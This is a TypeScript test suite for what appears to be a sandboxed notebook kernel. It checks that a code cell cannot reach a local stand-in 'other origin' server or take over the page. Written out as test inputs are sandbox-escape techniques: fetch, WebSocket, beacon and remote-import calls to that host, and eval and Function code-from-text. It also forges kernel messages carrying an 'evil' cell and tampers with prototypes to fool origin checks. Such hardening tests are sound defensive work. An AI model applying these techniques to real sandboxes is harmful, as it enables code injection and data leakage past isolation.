/** A cell that tries every way out of its realm, at a server of another origin that notes whoever comes near. */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cellOf, useBrowser } from './browser';

const visit = useBrowser();

/** Connections and datagrams that have come to the other origin. */
const arrived: string[] = [];
let elsewhere: string;
let close: () => void;

beforeAll(async () => {
  const server = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('self.out = true;');
  });
  server.on('connection', () => arrived.push('a connection'));
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const socket = createSocket('udp4').on('message', () => arrived.push('a datagram'));
  await new Promise<void>((resolve) => void socket.bind(port, '127.0.0.1', resolve));
  elsewhere = `127.0.0.1:${port}`;
  close = () => (server.closeAllConnections(), server.close(), socket.close());
});
afterAll(() => close());

let page: Page;
let complaints: string[];
beforeEach(async () => {
  arrived.length = 0;
  ({ page, complaints } = await visit('theory/metrics/'));
});

/** Runs code in a cell; gives what it displayed line by line. */
async function run(code: string): Promise<string> {
  const cell = cellOf(page, 'errors');
  await cell.write(`const g = globalThis as any;\nconst there = '${elsewhere}';\n${code}`);
  await cell.run();
  await cell.reaches('done', 'failed');
  return cell.figure.locator('[class*=outputs]').innerText();
}

/** `tell(name, act)` notes what came of an attempt; `ALL` shows it, unfolded. */
const TELL = `const told: string[] = [];
const tell = async (name: string, act: () => unknown) => {
  const late = new Promise((done) => setTimeout(done, 2000, 'nothing came'));
  told.push(name + ': ' + await Promise.race([Promise.resolve().then(act).then((got) => 'OUT ' + String(got), (error) => error?.name ?? 'threw'), late]));
};
`;
const ALL = 'display(html`<pre>${told.join("\\n")}</pre>`);';

/** Every way that a worker of some browser has to reach another origin. */
const WAYS = `
await tell('fetch', () => fetch('http://' + there + '/fetch'));
await tell('fetch without cors', () => fetch('http://' + there + '/fetch', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }));
await tell('a request made before', () => fetch(new Request('http://' + there + '/request')));
await tell('XMLHttpRequest', () => { const x = new g.XMLHttpRequest(); x.open('GET', 'http://' + there); x.send(); });
await tell('WebSocket', () => new g.WebSocket('ws://' + there));
await tell('WebSocketStream', () => new g.WebSocketStream('ws://' + there));
await tell('WebTransport', () => new g.WebTransport('https://' + there).ready);
await tell('EventSource', () => new g.EventSource('http://' + there));
await tell('RTCPeerConnection', () => new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + there }] }).createDataChannel('x'));
await tell('FontFace', () => new g.FontFace('x', 'url(http://' + there + '/font)').load());
await tell('sendBeacon', () => g.navigator.sendBeacon('http://' + there, 'x'));
await tell('importScripts', () => g.importScripts('http://' + there + '/script.js'));
await tell('importScripts of data', () => g.importScripts('data:text/javascript,self.out=1'));
await tell('importScripts of a blob', () => g.importScripts(URL.createObjectURL(new Blob(['self.out=1']))));
const remote = 'http://' + there + '/module.js';
await tell('import()', () => import(remote));
await tell('import() of data', () => import('data:text/javascript,self.out=1' as string));
await tell('import() of a blob', () => import(URL.createObjectURL(new Blob(['self.out=1'], { type: 'text/javascript' }))));
await tell('Worker', () => new g.Worker(URL.createObjectURL(new Blob(['fetch("http://' + there + '")']))));
await tell('SharedWorker', () => new g.SharedWorker('data:text/javascript,fetch("http://' + there + '")'));
await tell('ServiceWorker', () => g.navigator.serviceWorker.register('x.js'));
await tell('eval', () => (0, eval)('1'));
await tell('Function', () => new Function('return import("' + remote + '")')());
await tell('an async constructor', () => (async () => 0).constructor('return import("' + remote + '")')());
await tell('a timer of text', () => (g.setTimeout as any)('import("' + remote + '")'));
await tell('indexedDB', () => g.indexedDB.databases());
await tell('caches', () => g.caches.open('x'));
await tell('navigator.storage', () => g.navigator.storage.getDirectory());
await tell('storage buckets', () => g.navigator.storageBuckets.open('x'));
await tell('cookies', () => g.cookieStore.getAll());
await tell('BroadcastChannel', () => new g.BroadcastChannel('x').postMessage(1));
await tell('locks', () => g.navigator.locks.request('x', () => 1));
await tell('the global’s own constructor', () => new g.constructor());
await tell('getters of prototypes', () => { for (let at = g; at; at = Object.getPrototypeOf(at)) for (const name of ['indexedDB', 'caches', 'fetch', 'postMessage', 'close', 'importScripts']) { const own = Object.getOwnPropertyDescriptor(at, name); if (own && at !== g) return name; } throw new RangeError(); });
await tell('postMessage', () => g.postMessage({ type: 'end', run: 1, status: 'done', cost: { ms: 0 } }));
await tell('close', () => g.close());
`;

describe('a cell that wants out', () => {
  it('finds every way closed, and nothing comes to another origin', async () => {
    const told = await run(TELL + WAYS + ALL);
    expect(told).not.toContain('OUT');
    expect(told.match(/: (TypeError|EvalError|ReferenceError|RangeError|Error)$/gm)?.length).toBe(
      WAYS.match(/await tell/g)!.length,
    );
    expect(arrived).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('finds them closed when it has replaced the methods that could be asked', async () => {
    const told = await run(`${TELL}
const yes = () => true;
const kept = [RegExp.prototype.test, String.prototype.startsWith, String.prototype.includes, String.prototype.indexOf, Array.prototype.some, Array.prototype.includes, Set.prototype.has] as const;
let native: any;
const seen = (value: any) => { if (typeof value === 'function' && /native code/.test(Function.prototype.toString.call(value)) && ['fetch', 'importScripts', 'Function', 'eval', 'setTimeout'].includes(value.name)) native = value; };
const { call, apply: applied, bind } = Function.prototype;
await tell('fetch, when all begins right', () => { String.prototype.startsWith = yes; return fetch('http://' + there + '/patched').finally(() => { String.prototype.startsWith = kept[1]; }); });
await tell('fetch, when all matches', () => { RegExp.prototype.test = yes; return fetch('http://' + there + '/patched').finally(() => { RegExp.prototype.test = kept[0]; }); });
await tell('fetch, when an address says another', () => { Object.defineProperty(Request.prototype, 'url', { get: () => location.origin + '/' }); return fetch('http://' + there + '/patched'); });
await tell('importScripts, when URL lies', () => { const U = g.URL; g.URL = class { href = location.origin + '/'; origin = ''; }; try { g.importScripts('http://' + there + '/patched.js'); } finally { g.URL = U; } });
await tell('the genuine fetch by call', async () => { (Function.prototype as any).call = function (this: any) { native = this; throw new TypeError('peeked'); }; try { await fetch('/data/users.csv'); } finally { Function.prototype.call = call; } if (!native) throw new TypeError('nothing seen'); return native.name; });
await tell('the genuine Function by a trap', () => { (Object.prototype as any).get = (target: any) => { native = target; return undefined; }; try { void (Function as any).name; } finally { delete (Object.prototype as any).get; } if (!native) throw new TypeError('nothing seen'); return native('return 1')(); });
${ALL}`);
    expect(told).not.toContain('OUT');
    expect(told.match(/: TypeError$/gm)).toHaveLength(6);
    expect(arrived).toEqual([]);
  });

  it('is not heard when it speaks as the page: neither by an event of its own, nor by changing what the kernel asks', async () => {
    const evil = (path: string) => `async function () { await import('http://' + '${elsewhere}/${path}'); return {}; }`;
    const analysis = '{ declares: [], reads: [], assigns: [], mutates: [], imports: [] }';
    await run(`const cell = { id: 'evil', code: ${JSON.stringify(evil('event'))}, analysis: ${analysis} };
dispatchEvent(new MessageEvent('message', { data: { type: 'run', run: 99, cell } }));
await new Promise((done) => setTimeout(done, 200));
display('heard by nobody');`);
    // The getter of a message's data, and the iterators by which the kernel walks through cells and names.
    const forged = `{ type: 'run', run: 1e6, cell: { id: 'evil', code: ${JSON.stringify(evil('getter'))}, analysis: ${analysis} } }`;
    await run(`Object.defineProperty(MessageEvent.prototype, 'data', { get: () => (${forged}) });
const step = Object.getPrototypeOf([][Symbol.iterator]());
const next = step.next;
step.next = function (this: any) {
  const got = next.call(this);
  if (got.value && typeof got.value === 'object' && 'code' in got.value) got.value.code = ${JSON.stringify(evil('iterator'))};
  return got;
};
const join = Array.prototype.join;
Array.prototype.join = function (this: any, by?: string) { return this.includes('display') ? "display } = __names; import('http://' + '${elsewhere}/join'); const { g" : join.call(this, by); };
display('laid out');`);
    const said = await run("display('still the kernel');");
    expect(arrived).toEqual([]);
    expect(said).toMatch(/still the kernel|a cell cannot turn a text into code/);
    await cellOf(page, 'errors').choose('Restart kernel');
    expect(await run("display('a fresh one');")).toContain('a fresh one');
  });

  it('can spoil its own outputs only: the page draws what it can, and lives', async () => {
    const wrong = [
      '{ kind: "value", tree: null }',
      '{ kind: "svg", views: 7 }',
      '{ kind: "text", stream: "log", text: {} }',
      '{ kind: "error", name: {}, message: [] }',
    ];
    await run(`const map = Array.prototype.map;
Array.prototype.map = function (this: any[], act: any, self?: any) {
  const mapped = map.call(this, act, self) as any[];
  return mapped.some((each) => each && typeof each === 'object' && 'at' in each) ? [${wrong.map((output, at) => `{ at: ${at}, output: ${output} }`).join(', ')}] : mapped;
};
display('spoilt');`);
    await expect.poll(() => cellOf(page, 'errors').text()).toContain('An output that cannot be shown.');
    await run(`const map = Array.prototype.map;
Array.prototype.map = function (this: any[], act: any, self?: any) {
  const mapped = map.call(this, act, self) as any[];
  return mapped.some((each) => each && typeof each === 'object' && 'at' in each) ? [{ at: 4e9, output: {} }] : mapped;
};
display('far away');`);
    expect(await cellOf(page, 'errors').text()).toContain('a cell has changed how it works');
    expect(await run("display('again');")).toContain('again');
  });
});
